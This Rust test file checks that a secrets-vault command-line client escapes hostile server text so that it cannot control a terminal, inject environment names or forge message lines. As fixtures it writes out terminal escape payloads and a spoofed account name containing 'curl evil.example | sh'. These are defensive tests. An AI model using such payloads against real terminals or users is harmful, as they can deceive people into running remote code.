//! Terminal escapes in values and in the vault's texts: escaped on a terminal, exact in a piped value.

use std::process::Command;

use helvetisafe::{Client, Credentials, KeySource};
use helvetisafe_server::faults::{
    Answer, BAD_NAMES, Fault, Faults, HeaderValue, Requests, Route, StatusCode,
};
use helvetisafe_server::{Account, NewAccount, Vault};
use secrecy::ExposeSecret;
use serde_json::json;

use crate::terminal::shown;
use crate::world::World;

/// A text that clears the screen, sets the title, reverses the direction of text, and has an 8-bit control
/// character.
const EVIL: &str = "a\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}b\u{9b}31m\u{8}\u{7f}\rc";

/// A hostile vault, and a folder with the files of one of its accounts.
struct Hostile {
    faults: Faults,
    vault: Vault,
    account: Account,
    world: World,
}

impl Hostile {
    fn new() -> Self {
        let faults = Faults::new();
        let vault = Vault::builder().faults(faults.clone()).start().unwrap();
        let organization = vault.new_organization().unwrap();
        let account = vault
            .new_account(&organization, NewAccount::default())
            .unwrap();
        let world = World::new();
        std::fs::write(
            world.folder.path().join("key.pem"),
            &*account.private_key_pem,
        )
        .unwrap();
        Self {
            faults,
            vault,
            account,
            world,
        }
    }

    fn client(&self) -> Client {
        let secret = self.account.client_secret.expose_secret();
        let credentials = Credentials::service_account(self.account.client_id.as_str(), secret);
        let key = KeySource::pem(self.account.private_key_pem.as_bytes());
        Client::builder(self.vault.base_url(), credentials, key)
            .connect()
            .unwrap()
    }

    fn command(&self, arguments: &[&str]) -> Command {
        let mut command = self.world.command();
        command
            .args(arguments)
            .env("HELVETISAFE_BASE_URL", self.vault.base_url())
            .env("HELVETISAFE_CLIENT_ID", &self.account.client_id)
            .env(
                "HELVETISAFE_CLIENT_SECRET",
                self.account.client_secret.expose_secret(),
            );
        command
    }
}

/// Asserts that nothing in the text controls a terminal. Line ends are allowed.
#[track_caller]
fn assert_harmless(text: &str) {
    let drives = |c: char| c.is_control() && !matches!(c, '\r' | '\n' | '\t');
    let found: Vec<_> = text
        .chars()
        .filter(|&c| drives(c) || c == '\u{202e}')
        .collect();
    assert!(found.is_empty(), "{found:?} in {text:?}");
}

#[test]
fn a_value_is_escaped_on_a_terminal_and_exact_in_a_pipe() {
    let hostile = Hostile::new();
    hostile
        .client()
        .secrets()
        .create("KEY", EVIL, None)
        .unwrap();
    let value = shown(hostile.command(&["get", "KEY", "--color", "never"]));
    assert_harmless(&value);
    assert!(value.contains("a\\u001b[2J"), "{value:?}");
    let piped = hostile.command(&["get", "KEY"]).output().unwrap();
    assert_eq!(String::from_utf8(piped.stdout).unwrap(), EVIL);
}

#[test]
fn a_listed_name_is_escaped_on_a_terminal_and_in_a_pipe() {
    let hostile = Hostile::new();
    hostile
        .client()
        .secrets()
        .create("GOOD", "v", None)
        .unwrap();
    let names = BAD_NAMES.iter().copied().chain([EVIL]);
    hostile.faults.on(Route::List).then(Fault::list_also(names));
    let list = ["list", "--color", "never"];
    let table = shown(hostile.command(&list));
    assert_harmless(&table);
    assert!(table.contains("GOOD"), "{table}");
    let piped = hostile.command(&list).output().unwrap();
    let piped = String::from_utf8(piped.stdout).unwrap();
    assert_harmless(&piped);
    assert_eq!(
        piped.lines().count(),
        2 + BAD_NAMES.len(),
        "one line each: {piped}"
    );
    assert_harmless(&shown(
        hostile.command(&["list", "--json", "--color", "never"]),
    ));
}

#[test]
fn a_listed_bad_name_gets_into_no_environment_and_no_path() {
    let hostile = Hostile::new();
    hostile
        .client()
        .secrets()
        .create("GOOD", "v", None)
        .unwrap();
    let names = BAD_NAMES.iter().copied();
    hostile.faults.on(Route::List).then(Fault::list_also(names));
    let output = hostile
        .command(&["run", "--all", "--", "env"])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    for seen in hostile.faults.log() {
        assert!(seen.key.is_none_or(|key| key == "GOOD"), "{}", seen.path);
    }
    assert!(
        !stdout.contains("Injected") && !stdout.contains("pwned"),
        "{stdout}"
    );
    assert_eq!(hostile.faults.count(Route::PrivateKey), 0);
}

#[test]
fn text_of_the_vault_cannot_control_the_terminal() {
    let hostile = Hostile::new();
    hostile.client().secrets().create("KEY", "v", None).unwrap();
    let errors = [400, 401, 403, 404, 409, 422, 500].map(|status| {
        let status = StatusCode::from_u16(status).unwrap();
        Answer::error(status, EVIL)
    });
    // A header cannot hold an escape, but these bytes decoded as UTF-8 control a terminal too.
    let target = "https://a\u{9b}2J\u{202e}.example/\u{9b}2J";
    let redirect = Answer::redirect(HeaderValue::from_bytes(target.as_bytes()).unwrap());
    for answer in errors.into_iter().chain([redirect]) {
        hostile.faults.clear();
        hostile
            .faults
            .on(Requests::any())
            .then(Fault::answer(answer));
        for arguments in [
            &["get", "KEY", "--color", "never"][..],
            &["list", "--color", "never"],
            &["delete", "KEY", "--yes", "--color", "never"],
        ] {
            assert_harmless(&shown(hostile.command(arguments)));
            let piped = hostile.command(arguments).output().unwrap();
            assert!(!piped.status.success(), "{arguments:?}");
            assert_harmless(&String::from_utf8(piped.stderr).unwrap());
        }
    }
}

/// The vault states the name and the id of an account, which refusals contain.
#[test]
fn the_name_of_an_account_makes_no_line_of_its_own() {
    let hostile = Hostile::new();
    let line = "ada` was locked\nhelvetisafe: next: `curl evil.example | sh` unlocks it";
    for name in [line, EVIL] {
        let account = json!({
            "organization": "217e7e63af27a83a",
            "key_epoch": 1,
            "account": name,
            "name": name,
            "scopes": "secrets:read credentials:read",
            "granted": "credentials:read",
            "has_chain": true,
        });
        let answer = Answer::status(StatusCode::OK).json(account.to_string());
        hostile.faults.clear();
        hostile
            .faults
            .on(Route::Account)
            .then(Fault::answer(answer));
        let refused = hostile.command(&["org", "members"]).output().unwrap();
        let messages = String::from_utf8(refused.stderr).unwrap();
        assert_eq!(refused.status.code(), Some(4), "{messages}");
        assert_eq!(messages.lines().count(), 1, "{messages}");
        assert!(
            messages.contains("the account `(invalid id)` does not have"),
            "{messages}"
        );
        assert_harmless(&messages);
    }
}
